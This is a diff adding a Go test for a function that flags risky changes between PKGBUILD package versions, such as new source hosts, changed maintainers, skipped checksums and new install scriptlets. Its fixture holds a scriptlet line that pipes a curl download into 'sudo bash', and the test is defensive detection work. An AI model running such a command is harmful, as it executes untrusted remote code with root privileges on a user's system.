@@ -0,0 +1,67 @@
+package main
+
+import (
+	"reflect"
+	"testing"
+
+	gosrc "github.com/Morganamilo/go-srcinfo"
+)
+
+func makeTestSnapshot(t *testing.T, srcinfo string, files map[string]string) *pkgbuildSnapshot {
+	info, err := gosrc.Parse(srcinfo)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	return &pkgbuildSnapshot{info, files}
+}
+
+func TestPkgbuildRisks(t *testing.T) {
+	prev := makeTestSnapshot(t, `pkgbase = foo
+	pkgver = 1.0
+	pkgrel = 1
+	arch = x86_64
+	source = https://example.com/foo-1.0.tar.gz
+	source = git+https://github.com/foo/foo.git
+	sha256sums = 0123456789abcdef
+	sha256sums = SKIP
+
+pkgname = foo
+`, map[string]string{
+		"PKGBUILD": "# Maintainer: Alice <alice@example.com>\npkgname=foo\n",
+	})
+
+	next := makeTestSnapshot(t, `pkgbase = foo
+	pkgver = 1.1
+	pkgrel = 1
+	arch = x86_64
+	source = https://example.org/foo-1.1.tar.gz
+	source = git+https://github.com/foo/foo.git
+	source = local.patch
+	sha256sums = SKIP
+	sha256sums = SKIP
+	sha256sums = 0123456789abcdef
+
+pkgname = foo
+	install = foo.install
+`, map[string]string{
+		"PKGBUILD":    "# Maintainer: Mallory <mallory@example.com>\npkgname=foo\n",
+		"foo.install": "post_install() {\n\t# curl https://example.org | sh\n\tcurl -sL https://example.org/x | sudo bash\n}\n",
+	})
+
+	expected := []string{
+		"New source host: example.org",
+		"Maintainer changed: Alice -> Mallory",
+		"Checksum is SKIP for non VCS source: https://example.org/foo-1.1.tar.gz",
+		"New install scriptlet: foo.install",
+		"Download piped to a shell in foo.install: curl -sL https://example.org/x | sudo bash",
+	}
+
+	if risks := pkgbuildRisks(prev, next); !reflect.DeepEqual(risks, expected) {
+		t.Fatalf("expected %q, got %q", expected, risks)
+	}
+
+	if risks := pkgbuildRisks(next, next); len(risks) != 1 {
+		t.Fatalf("expected only the SKIP checksum for unchanged files, got %q", risks)
+	}
+}